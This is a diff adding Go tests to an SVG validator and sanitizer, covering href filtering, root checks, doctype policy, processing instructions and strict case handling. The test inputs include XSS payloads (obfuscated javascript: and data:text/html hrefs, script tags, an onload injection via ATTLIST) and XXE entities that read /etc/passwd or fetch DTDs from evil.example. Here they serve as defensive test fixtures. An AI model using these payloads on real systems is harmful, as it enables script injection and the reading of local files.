@@ -1,6 +1,8 @@
 package safesvg
 
 import (
+	"bytes"
+	"errors"
 	"testing"
 )
 
@@ -14,6 +16,17 @@ func Test_ValidSVGByte(t *testing.T) {
 
 }
 
+func Test_DefaultExtraAttributes(t *testing.T) {
+	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" version="1.1" baseProfile="full"/>`)
+	v := NewValidator()
+	if err := v.Validate(svg); err != nil {
+		t.Errorf("Unexptected error %v", err)
+	}
+	if err := v.SetStrictCase(true).Validate(svg); err != nil {
+		t.Errorf("Unexptected error %v", err)
+	}
+}
+
 func Test_InvalidElements(t *testing.T) {
 	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24"><script>window.alert('evil')</script><path fill="none" d="M0 0h24v24H0V0z"/><path d="M12 1L3 5v6c0 5.55 3.84 10.74 9 12 5.16-1.26 9-6.45 9-12V5l-9-4zm0 10.99h7c-.53 4.12-3.28 7.79-7 8.94V12H5V6.3l7-3.11v8.8z"/></svg>`)
 	v := NewValidator()
@@ -177,6 +190,35 @@ func Test_Style(t *testing.T) {
 	}
 }
 
+func Test_Href(t *testing.T) {
+	v := NewValidator()
+	if err := v.Validate([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.com/"><rect/></a></svg>`)); !errors.Is(err, ErrInvalidElement) {
+		t.Errorf("Expected %v, got %v", ErrInvalidElement, err)
+	}
+	v.WhitelistElements(`a`)
+	for href, expected := range map[string]error{
+		`java&#9;script:alert(1)`:                ErrUnallowedHrefAttributeValue,
+		`java&#10;script:alert(1)`:               ErrUnallowedHrefAttributeValue,
+		` &#13;javascript:alert(1)`:              ErrUnallowedHrefAttributeValue,
+		`data:text/html,&lt;script&gt;`:          ErrUnallowedHrefAttributeValue,
+		`da&#9;ta:text/html;base64,PHNjcmlwdD4=`: ErrUnallowedHrefAttributeValue,
+		`data:image/png,AA`:                      nil,
+		`https://example.com/`:                   nil,
+	} {
+		svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><a href="` + href + `"><rect/></a></svg>`)
+		if err := v.Validate(svg); !errors.Is(err, expected) {
+			t.Errorf("%s: Expected %v, got %v", href, expected, err)
+		}
+		out, err := v.Sanitize(svg)
+		if err != nil {
+			t.Fatalf("Unexptected error %v", err)
+		}
+		if kept := bytes.Contains(out, []byte(`href`)); kept != (expected == nil) {
+			t.Errorf("%s: Unexpected sanitized output %s", href, out)
+		}
+	}
+}
+
 func Test_Entity(t *testing.T) {
 	svg := []byte(`<?xml version="1.0" standalone="yes"?>
 	<! DOCTYPE ernw [ <!ENTITY xxe SYSTEM "file:///etc/passwd" > ]>
@@ -229,3 +271,137 @@ func Test_NS(t *testing.T) {
 		t.Errorf("Unexptected error %v", err)
 	}
 }
+
+func Test_Root(t *testing.T) {
+	v := NewValidator()
+	for _, svg := range []string{
+		``,
+		`<g xmlns="http://www.w3.org/2000/svg"></g>`,
+		`<svg></svg>`,
+		`<svg xmlns="http://www.w3.org/2000/svg"></svg><svg xmlns="http://www.w3.org/2000/svg"></svg>`,
+		`<svg xmlns="http://www.w3.org/2000/svg"></svg>trailing`,
+		`text<svg xmlns="http://www.w3.org/2000/svg"></svg>`,
+	} {
+		err := v.Validate([]byte(svg))
+		if !errors.Is(err, ErrInvalidDocument) {
+			t.Errorf("%s: expected %v, got %v", svg, ErrInvalidDocument, err)
+		}
+	}
+	svg := []byte("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>\n<!-- comment -->\n")
+	if err := v.Validate(svg); err != nil {
+		t.Errorf("Unexptected error %v", err)
+	}
+	if err := v.Validate([]byte(`<svg></svg>`)); err == nil {
+		t.Errorf("Expected validation error, got none")
+	}
+	v.SetRootCheck(RootCheckSVG)
+	if err := v.Validate([]byte(`<svg></svg>`)); err != nil {
+		t.Errorf("Unexptected error %v", err)
+	}
+	out, err := v.Sanitize([]byte(`<svg><path/></svg>text<svg></svg>`))
+	if err != nil || string(out) != `<svg><path/></svg>` {
+		t.Errorf("Unexpected output %s, error %v", out, err)
+	}
+	v.SetRootCheck(RootCheckNone)
+	if err := v.Validate([]byte(`<g></g><path/>`)); err != nil {
+		t.Errorf("Unexptected error %v", err)
+	}
+}
+
+func Test_Doctype(t *testing.T) {
+	svg11 := `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
+<svg xmlns="http://www.w3.org/2000/svg"></svg>`
+	v := NewValidator()
+	if err := v.Validate([]byte(svg11)); !errors.Is(err, ErrUnallowedDoctype) {
+		t.Errorf("Expected %v, got %v", ErrUnallowedDoctype, err)
+	}
+	v.SetDoctypePolicy(DoctypeAllowSVG)
+	if err := v.Validate([]byte(svg11)); err != nil {
+		t.Errorf("Unexptected error %v", err)
+	}
+	for svg, expected := range map[string]error{
+		`<!DOCTYPE svg SYSTEM "file:///etc/passwd"><svg xmlns="http://www.w3.org/2000/svg"></svg>`:                                                                                                  ErrUnallowedDoctype,
+		`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"></svg>`:                                                             ErrUnallowedDoctype,
+		`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ATTLIST svg onload CDATA "alert(1)">]><svg xmlns="http://www.w3.org/2000/svg"></svg>`: ErrUnallowedDoctype,
+		`<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/a.dtd"> %p;]><svg xmlns="http://www.w3.org/2000/svg"></svg>`:                                                                       ErrUnallowedEntityAttribute,
+		`<!ELEMENT svg ANY><svg xmlns="http://www.w3.org/2000/svg"></svg>`:                                                                                                                          ErrUnallowedDirective,
+	} {
+		if err := v.Validate([]byte(svg)); !errors.Is(err, expected) {
+			t.Errorf("%s: expected %v, got %v", svg, expected, err)
+		}
+	}
+	out, err := NewValidator().Sanitize([]byte(svg11))
+	if err != nil || string(out) != "\n<svg xmlns=\"http://www.w3.org/2000/svg\"/>" {
+		t.Errorf("Unexpected output %q, error %v", out, err)
+	}
+}
+
+func Test_ProcInst(t *testing.T) {
+	v := NewValidator()
+	for svg, expected := range map[string]error{
+		`<?xml version="1.0" encoding="UTF-8" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg"/>`: nil,
+		`<?xml version="1.0" standalone="maybe"?><svg xmlns="http://www.w3.org/2000/svg"/>`:               ErrInvalidProcInst,
+		`<?xml encoding="UTF-8" version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`:                 ErrInvalidProcInst,
+		`<?xml version="1.0" foo="bar"?><svg xmlns="http://www.w3.org/2000/svg"/>`:                        ErrInvalidProcInst,
+		`<svg xmlns="http://www.w3.org/2000/svg"><?php echo 1 ?></svg>`:                                   ErrInvalidProcInst,
+		`<?XML version="1.0" foo="bar"?><svg xmlns="http://www.w3.org/2000/svg"/>`:                        ErrInvalidProcInst,
+		`<?XmL version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`:                                  nil,
+		`<svg xmlns="http://www.w3.org/2000/svg"><?Xml version="1.0"?></svg>`:                             ErrInvalidProcInst,
+		`<?xml-stylesheet type="text/css" href="#style"?><svg xmlns="http://www.w3.org/2000/svg"/>`:       ErrInvalidProcInst,
+	} {
+		if err := v.Validate([]byte(svg)); !errors.Is(err, expected) {
+			t.Errorf("%s: expected %v, got %v", svg, expected, err)
+		}
+	}
+	v.SetAllowXMLStylesheet(true)
+	for svg, expected := range map[string]error{
+		`<?xml-stylesheet type="text/css" href="#style"?><svg xmlns="http://www.w3.org/2000/svg"/>`:           nil,
+		`<?xml-stylesheet type="text/xsl" href="#style"?><svg xmlns="http://www.w3.org/2000/svg"/>`:           ErrInvalidProcInst,
+		`<?xml-stylesheet href="https://cdn.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>`:        ErrUnallowedURL,
+		`<?xml-stylesheet href="data:text/css,svg{fill:url(//x)}"?><svg xmlns="http://www.w3.org/2000/svg"/>`: ErrUnallowedURL,
+	} {
+		if err := v.Validate([]byte(svg)); !errors.Is(err, expected) {
+			t.Errorf("%s: expected %v, got %v", svg, expected, err)
+		}
+	}
+	v.SetURLPolicy(&URLPolicy{Schemes: []string{`https`}, Hosts: []string{`cdn.example`}})
+	if err := v.Validate([]byte(`<?xml-stylesheet href="https://cdn.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>`)); err != nil {
+		t.Errorf("Unexptected error %v", err)
+	}
+	v.SetURLPolicy(&URLPolicy{Schemes: []string{`https`}, Hosts: []string{`cdn.example`}, RewriteURL: func(attr, value string) (string, error) {
+		return ``, errors.New(`proxy down`)
+	}})
+	var rewriteErr *RewriteURLError
+	if _, err := v.Sanitize([]byte(`<?xml-stylesheet href="https://cdn.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>`)); !errors.As(err, &rewriteErr) {
+		t.Errorf("Expected a *RewriteURLError, got %v", err)
+	}
+}
+
+func Test_StrictCase(t *testing.T) {
+	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" VIEWBOX="0 0 24 24"><LINEARGRADIENT id="a" gradientunits="userSpaceOnUse"/><clipPath id="b"><rect/></clipPath></svg>`)
+	v := NewValidator()
+	if err := v.Validate(svg); err != nil {
+		t.Errorf("Unexptected error %v", err)
+	}
+	v.SetStrictCase(true)
+	if err := v.Validate(svg); !errors.Is(err, ErrInvalidAttribute) {
+		t.Errorf("Expected %v, got %v", ErrInvalidAttribute, err)
+	}
+	if err := v.Validate([]byte(`<svg xmlns="http://www.w3.org/2000/svg"><LINEARGRADIENT/></svg>`)); !errors.Is(err, ErrInvalidElement) {
+		t.Errorf("Expected %v, got %v", ErrInvalidElement, err)
+	}
+	out, err := v.Sanitize(svg)
+	expected := `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><linearGradient id="a" gradientUnits="userSpaceOnUse"/><clipPath id="b"><rect/></clipPath></svg>`
+	if err != nil || string(out) != expected {
+		t.Errorf("Expected %s, got %s (%v)", expected, out, err)
+	}
+	if err = v.Validate(out); err != nil {
+		t.Errorf("Unexptected error %v", err)
+	}
+	// lowercase names keep or get the canonical spelling
+	v.WhitelistElements(`lineargradient`).WhitelistAttributes(`gradientunits`)
+	v.BlacklistElements(`clipPath`).WhitelistElements(`clippath`)
+	if err = v.Validate(out); err != nil {
+		t.Errorf("Unexptected error %v", err)
+	}
+}